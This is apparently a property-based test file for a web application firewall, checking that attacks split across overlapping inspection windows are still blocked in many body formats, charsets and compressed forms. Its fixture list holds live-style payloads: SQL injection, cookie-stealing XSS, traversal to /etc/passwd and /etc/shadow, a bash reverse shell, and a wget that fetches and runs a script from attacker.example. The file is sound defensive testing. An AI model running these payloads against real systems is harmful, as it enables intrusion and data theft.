import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { OVERLAP_BYTES, WINDOW_BYTES } from '../../src/engine/windows.ts'
import { inCharset } from '../fuzz/mutations.ts'
import { inPieces, inspectBody } from './inspect.ts'

// Long values are looked at in windows that overlap: an attack across a seam stands in one of them whole, in every format
// and charset, however the bytes are cut.

const ATTACKS: readonly [kind: string, text: string][] = [
  ['sqli', "' UNION SELECT username, password FROM users WHERE 'a'='a"],
  [
    'sqli',
    "x' or 'a'='a' /* as good as any other condition, and somewhat longer than it would need to be */ or 'b'='b",
  ],
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', `<img src="/picture.png" alt="${'a rather long text '.repeat(6)}" onerror="alert(document.domain)">`],
  ['path_traversal', '../../../../../../../../etc/passwd'],
  ['path_traversal', `${'../'.repeat(40)}var/../etc/../etc/shadow`],
  ['command_injection', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['command_injection', `$(wget http://attacker.example/${'long/'.repeat(20)}run.sh -O /tmp/run.sh; sh /tmp/run.sh)`],
]
const FILLER = 'harmless words in a row '

interface Format {
  readonly name: string
  readonly type: string
  /** What stands for each character of a value, if not the character itself. */
  readonly escape?: (text: string) => string
  readonly wrap: (value: string) => string
}

const json = (text: string) => JSON.stringify(text).slice(1, -1)
const percent = (text: string) => encodeURIComponent(text).replaceAll("'", '%27').replaceAll('%20', '+')
const markup = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll("'", '&#39;').replaceAll('"', '&quot;')
const unicode = (text: string) =>
  text.replace(/[^a-z ]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)
const quotedPrintable = (text: string) =>
  text
    .replace(/[^A-Za-z ]/g, (one) => `=${one.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`)
    .replaceAll(' row ', ' row =\r\n')
const part = (headers: string, content: string) => `--XX\r\n${headers}\r\n\r\n${content}\r\n--XX--\r\n`
const FORM = 'application/x-www-form-urlencoded'
const FORM_DATA = 'multipart/form-data; boundary=XX'

const formats: readonly Format[] = [
  { name: 'JSON', type: 'application/json', escape: json, wrap: (value) => `{"a":[1,"${value}"]}` },
  { name: 'escaped JSON', type: 'application/json', escape: unicode, wrap: (value) => `["${value}"]` },
  { name: 'a JSON key', type: 'application/json', escape: json, wrap: (value) => `{"${value}":1}` },
  { name: 'NDJSON', type: 'application/x-ndjson', escape: json, wrap: (value) => `1\n{"a":"${value}"}\n` },
  {
    name: 'JSON in JSON',
    type: 'application/json',
    escape: (text) => json(json(text)),
    wrap: (value) => `["[\\"${value}\\"]"]`,
  },
  { name: 'a comment in JSON', type: 'application/json', wrap: (value) => `[1//${value}\n]` },
  { name: 'what follows broken JSON', type: 'application/json', wrap: (value) => `{]${value}` },
  { name: 'a form', type: FORM, escape: percent, wrap: (value) => `a=1&b=${value}&c=2` },
  { name: 'the name of a form field', type: FORM, escape: percent, wrap: (value) => `${value}=1` },
  { name: 'a form with semicolons', type: FORM, escape: percent, wrap: (value) => `a=1;b=${value}` },
  { name: 'text', type: 'text/plain', wrap: (value) => value },
  { name: 'no type', type: '', wrap: (value) => value },
  { name: 'XML text', type: 'application/xml', escape: markup, wrap: (value) => `<a><b>${value}</b></a>` },
  { name: 'CDATA', type: 'application/xml', wrap: (value) => `<a><![CDATA[${value}]]></a>` },
  { name: 'an XML attribute', type: 'application/xml', escape: markup, wrap: (value) => `<a b="${value}"/>` },
  { name: 'an XML comment', type: 'application/xml', wrap: (value) => `<a><!--${value}--></a>` },
  { name: 'what follows broken XML', type: 'application/xml', wrap: (value) => `<a b>${value}` },
  {
    name: 'a multipart field',
    type: FORM_DATA,
    wrap: (value) => part('Content-Disposition: form-data; name="a"', value),
  },
  {
    name: 'a file of text',
    type: FORM_DATA,
    wrap: (value) =>
      part('Content-Disposition: form-data; name="a"; filename="b.txt"\r\nContent-Type: text/plain', value),
  },
  {
    name: 'JSON in multipart',
    type: FORM_DATA,
    escape: json,
    wrap: (value) => part('Content-Disposition: form-data; name="a"\r\nContent-Type: application/json', `["${value}"]`),
  },
  {
    name: 'a part in base64',
    type: 'multipart/mixed; boundary=XX',
    wrap: (value) =>
      part('Content-Transfer-Encoding: base64', Buffer.from(value).toString('base64').replace(/.{76}/g, '$&\r\n')),
  },
  {
    name: 'a part in quoted-printable',
    type: 'multipart/mixed; boundary=XX',
    escape: quotedPrintable,
    wrap: (value) => part('Content-Transfer-Encoding: quoted-printable', value),
  },
  {
    name: 'text before the parts',
    type: FORM_DATA,
    wrap: (value) => `${value}\r\n${part('Content-Disposition: form-data; name="a"', '1')}`,
  },
  { name: 'binary', type: 'application/octet-stream', wrap: (value) => `\0\x01${value}\0\x02` },
]
const charsets = ['utf-8', 'utf-16le', 'utf-16be', 'utf-32le', 'utf-32be', 'iso-8859-1']

/** A seam: where a window ends, or where the one after it begins. */
const seam = fc
  .tuple(fc.nat(2), fc.boolean())
  .map(([number, begins]) => WINDOW_BYTES + number * (WINDOW_BYTES - OVERLAP_BYTES) - (begins ? OVERLAP_BYTES : 0))
/** Where the attack begins, counted back from a seam. */
const place = (length: number) =>
  fc.tuple(seam, fc.integer({ min: -8, max: length + 8 })).map(([at, back]) => at - back)
const step = fc.oneof(fc.constantFrom(1, 7, 511, 512, 513, WINDOW_BYTES, 65_536), fc.integer({ min: 1, max: 40_000 }))

function body({ escape: escaped = (text) => text, wrap }: Format, attack: string, at: number): string {
  const before = FILLER.repeat(Math.ceil(at / FILLER.length)).slice(0, at)
  return wrap(escaped(`${before}${attack} ${FILLER.repeat(120)}`))
}

async function isBlocked(type: string, bytes: Buffer, size: number, encoding = ''): Promise<boolean> {
  const { verdict, findings } = await inspectBody(inPieces(bytes, size), { type, encoding })
  return verdict.action === 'block' && verdict.status === 403 && findings.length > 0
}

/**
 * Puts attacks around the seams.
 * @param runs for each attack and format
 */
export function seams(runs: number): void {
  describe.each(formats)('$name', (format) => {
    const withCharset = (charset: string) => `${format.type}${format.type === '' ? '' : `; charset=${charset}`}`
    const isText = format.type !== '' && !format.type.startsWith('multipart') && !format.type.endsWith('stream')

    test('without an attack nothing is', async () => {
      expect(await isBlocked(format.type, Buffer.from(body(format, '', 3 * WINDOW_BYTES)), 1_000)).toBe(false)
    })

    test.each(ATTACKS)('%s around a seam, cut anywhere: %s', async (_kind, attack) => {
      await fc.assert(
        fc.asyncProperty(place(attack.length), step, async (at, size) => {
          expect(await isBlocked(format.type, Buffer.from(body(format, attack, at)), size)).toBe(true)
        }),
        { numRuns: runs },
      )
    })

    test.runIf(isText)('in every charset, and compressed', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...ATTACKS),
          fc.constantFrom(...charsets),
          fc.nat(1_000_000),
          seam,
          step,
          fc.boolean(),
          async ([, attack], charset, spread, at, size, compressed) => {
            const back = (spread % (attack.length + 16)) - 8
            const bytes = inCharset(Buffer.from(body(format, attack, at - back)), charset)
            // Stored only, since a filler packs like a bomb.
            const sent = compressed ? gzipSync(bytes, { level: 0 }) : bytes
            expect(await isBlocked(withCharset(charset), sent, size, compressed ? 'gzip' : '')).toBe(true)
          },
        ),
        { numRuns: 3 * runs },
      )
    })
  })
}
